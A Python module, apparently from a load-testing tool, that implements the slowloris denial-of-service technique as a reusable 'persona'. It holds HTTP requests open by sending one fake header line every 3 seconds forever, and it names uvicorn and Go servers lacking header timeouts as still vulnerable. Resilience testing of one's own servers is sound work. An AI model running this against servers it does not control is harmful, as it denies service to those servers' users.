"""Slowloris, as published in 2009."""

from typing import Final

from loadgen import wire
from loadgen.personas import persona
from loadgen.personas._drip import Dripper

#: The original sends a line every 15 s; faster is harder on servers that judge by progress.
LINE_EVERY_SECONDS: Final = 3.0


@persona
class SlowHead(Dripper):
    """Sends one request header line every few seconds, for ever (slowloris).

    Each held one of Apache 2.2's processes. It still holds whatever restarts its timer at each line, or has none:
    uvicorn, and Go's net/http without ReadHeaderTimeout.
    """

    __slots__ = ()

    name = "slow-head"
    every_seconds = LINE_EVERY_SECONDS

    def opening(self) -> bytes:
        """Begin a request and leave its head open."""
        return wire.request("GET", self.cohort.place.path, self.cohort.place.host)[:-2]

    def drop(self, number: int) -> bytes:
        """Return a line."""
        return b"X-Line-%d: %d\r\n" % (number, number)
